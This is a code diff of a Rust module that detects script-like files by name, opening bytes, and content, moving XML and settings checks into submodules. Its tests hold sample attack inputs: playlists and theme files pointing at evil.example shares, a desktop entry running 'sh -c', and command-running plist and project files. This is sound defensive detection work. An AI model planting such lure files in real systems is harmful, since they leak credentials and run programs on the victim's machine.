@@ -1,7 +1,19 @@
 //! Which texts are scripts: what a program acts on when somebody opens it, or an interpreter runs. By their names, by how
 //! they begin, and by what they consist of.
+//!
+//! | | what is known by it |
+//! |---|---|
+//! | this file | scripts by their names and beginnings, tables of symbolic links |
+//! | `settings` | settings in sections, and lists of players |
+//! | `documents` | XML documents |
+//! | `lines` | scripts by their lines |
 
-pub(super) use super::script_lines::consists;
+mod documents;
+mod lines;
+mod settings;
+
+pub(super) use documents::acts;
+pub(super) use lines::consists;
 
 /// Names' endings of scripts, shortcuts, settings that are taken over by a click, and queries that fetch.
 const ENDINGS: &[&str] = &[
@@ -150,11 +162,6 @@ const BEGINNINGS: &[&str] = &[
     "<?php",
     "<?=",
     "<%",
-    "[internetshortcut",
-    "[desktop entry]",
-    "[autorun]",
-    "[.shellclassinfo]",
-    "[{000214a0-0000-0000-c000-000000000046}]",
     "windows registry editor version",
     "regedit4",
     "@echo off",
@@ -170,36 +177,7 @@ const BEGINNINGS: &[&str] = &[
     "on error resume next",
     "full address:s:",
     "screen mode id:i:",
-    "[oledb]",
-    "[applicationservers]",
-    "[scriptfile]",
 ];
-
-/// Roots of XML documents that act when they are opened where one of these stands in them, in lower case: script hosts',
-/// starters of programs, settings, lists of players, projects.
-const ACTING: &[(&str, &[&str])] = &[
-    ("job", HOSTED),
-    ("package", HOSTED),
-    ("component", HOSTED),
-    ("scriptlet", HOSTED),
-    ("registration", HOSTED),
-    ("jnlp", &["codebase", "<jar", "<j2se", "-desc"]),
-    ("softpkg", &["<codebase", "<implementation"]),
-    ("pcsettings", &["<deeplink", "<searchablecontent"]),
-    ("asx", &["<ref", "<entryref", "<base"]),
-    ("smil", &["src=\"\\\\", "src='\\\\", "src=\"file:", "src='file:"]),
-    ("playlist", &["<location>\\\\", "<location>file:"]),
-    ("kml", &["<href>\\\\", "<href>file:"]),
-    ("plist", &["<key>commandstring", "<key>payloadcontent", "<key>programarguments", "<string>file:"]),
-    ("project", &["<exec ", "<usingtask", "microsoft.net.sdk"]),
-    ("appinstaller", &["<mainbundle", "<mainpackage", "uri="]),
-];
-
-/// What script hosts run.
-const HOSTED: &[&str] = &["<script", "<registration"];
-
-/// How much of a text is looked at, in bytes.
-const HEAD: usize = 64 << 10;
 
 /// Whether names that end so are scripts'; `ending` is in lower case.
 pub(super) fn is_ending(ending: &str) -> bool {
@@ -208,49 +186,14 @@ pub(super) fn is_ending(ending: &str) -> bool {
 
 /// Whether a text is a script by how it begins.
 pub(super) fn begins(text: &str) -> bool {
-    let head = text.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
-    let head = head.get(..head.floor_char_boundary(64)).unwrap_or(head).to_ascii_lowercase();
-    BEGINNINGS.iter().any(|begin| head.starts_with(begin))
-        || is_shell_command(&head)
-        || is_takeover(text, &head)
-        || is_list_of_shares(text, &head)
-        || is_sylk(text)
-}
-
-/// Settings of Windows (`.inf`, `.theme`) that start a program or fetch from a share when they are taken over.
-fn is_takeover(text: &str, head: &str) -> bool {
-    let settings = ["[version]", "[theme]", "[defaultinstall"].iter().any(|begin| head.starts_with(begin));
-    settings && {
-        let text = text.get(..text.floor_char_boundary(HEAD)).unwrap_or(text).to_ascii_lowercase();
-        let lines = || text.lines().map(str::trim);
-        lines().any(|line| line.starts_with("[defaultinstall"))
-            || lines().any(|line| line.split_once('=').is_some_and(|(_, value)| leads_to_share(value)))
-    }
-}
-
-/// A list of a player (M3U, PLS) with something on a share or of this machine, for which programs log in there.
-fn is_list_of_shares(text: &str, head: &str) -> bool {
-    let list = head.starts_with("#extm3u") || head.starts_with("[playlist]");
-    let leads = |line: &str| {
-        leads_to_share(line) || line.split_once('=').is_some_and(|(_, value)| leads_to_share(value))
-    };
-    list && text.lines().any(|line| leads(line.trim()))
-}
-
-fn leads_to_share(value: &str) -> bool {
-    let value = value.trim().trim_start_matches('"');
-    value.starts_with("\\\\") || value.get(..5).is_some_and(|scheme| scheme.eq_ignore_ascii_case("file:"))
-}
-
-/// A command of Windows' shell (`.scf`), in lower case.
-fn is_shell_command(head: &str) -> bool {
-    let rest = head.strip_prefix("[shell]").map(str::trim_start);
-    rest.is_some_and(|rest| rest.starts_with("command=") || rest.starts_with("iconfile="))
+    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
+    let head = text.get(..text.floor_char_boundary(64)).unwrap_or(text).to_ascii_lowercase();
+    BEGINNINGS.iter().any(|begin| head.starts_with(begin)) || settings::act(text) || is_sylk(text)
 }
 
 /// A sheet of symbolic links (SYLK), which spreadsheets run formulas of: a table may begin with the same letters.
 fn is_sylk(text: &str) -> bool {
-    let mut lines = text.trim_start().lines();
+    let mut lines = text.lines();
     let first = lines.next().is_some_and(|line| line.starts_with("ID;P"));
     let record = |line: &str| {
         line.split(';')
@@ -258,15 +201,6 @@ fn is_sylk(text: &str) -> bool {
             .is_some_and(|name| ["P", "B", "F", "C", "O", "NN", "NE", "NU", "W", "E"].contains(&name))
     };
     first && lines.next().is_none_or(record)
-}
-
-/// Whether an XML document with this root, in lower case, is one that acts when it is opened.
-pub(super) fn acts(root: &str, text: &str) -> bool {
-    let marks = ACTING.iter().find(|(known, _)| *known == root).map(|(_, marks)| *marks);
-    marks.is_some_and(|marks| {
-        let head = text.get(..text.floor_char_boundary(HEAD)).unwrap_or(text).to_ascii_lowercase();
-        marks.iter().any(|mark| head.contains(mark))
-    })
 }
 
 #[cfg(test)]
@@ -295,6 +229,11 @@ mod tests {
             "[playlist]\nFile1=file://evil.example/x\n",
             "[Theme]\nDisplayName=x\n[boot]\nSCRNSAVE.EXE=\\\\evil.example\\x.scr\n",
             "[version]\nsignature=$chicago$\n[DefaultInstall]\nUnRegisterOCXs=x\n",
+            "#EXTM3U\n//evil.example/x\n",
+            "#EXTM3U\n#EXTINF:-1 tvg-id=\"a\" tvg-logo=\"\\/evil.example/x\",a\nhttps://a.example/1.ts\n",
+            "[playlist]\nFile1 = smb://evil.example/x\n",
+            "; Themes\n\n[Theme]\nWallpaper=//evil.example/x.jpg\n",
+            "# One that starts\n[Other]\na=b\n[Desktop Entry]\nExec=sh -c x\n",
             "[ApplicationServers]\nx=\n[x]\nInitialProgram=#calc\n",
         ];
         for text in scripts {
@@ -317,20 +256,11 @@ mod tests {
             "a,b,c\n1,2,powershell\n",
             "#EXTM3U\n#EXTINF:9,\nhttps://a.example/1.ts\n",
             "[version]\nnumber=5\n",
+            "[Theme]\nWallpaper=%SystemRoot%\\web\\x.jpg\n",
+            "To start it write this:\n[Desktop Entry]\nExec=sh\n",
         ];
         for text in others {
             assert!(!begins(text) && !consists(text), "{text}");
         }
-    }
-
-    #[test]
-    fn documents_act_by_their_root_and_what_is_in_them() {
-        assert!(acts("job", "<job><script language='VBScript'>x</script></job>"));
-        assert!(!acts("job", "<job><title>Baker</title></job>"));
-        assert!(!acts("svg", "<svg><script/></svg>"));
-        assert!(acts("plist", "<plist><key>CommandString</key><string>id</string></plist>"));
-        assert!(!acts("plist", "<plist><key>Name</key><string>Jane</string></plist>"));
-        assert!(acts("project", "<Project><Target><Exec Command='id'/></Target></Project>"));
-        assert!(!acts("project", "<project><name>a</name></project>"));
     }
 }
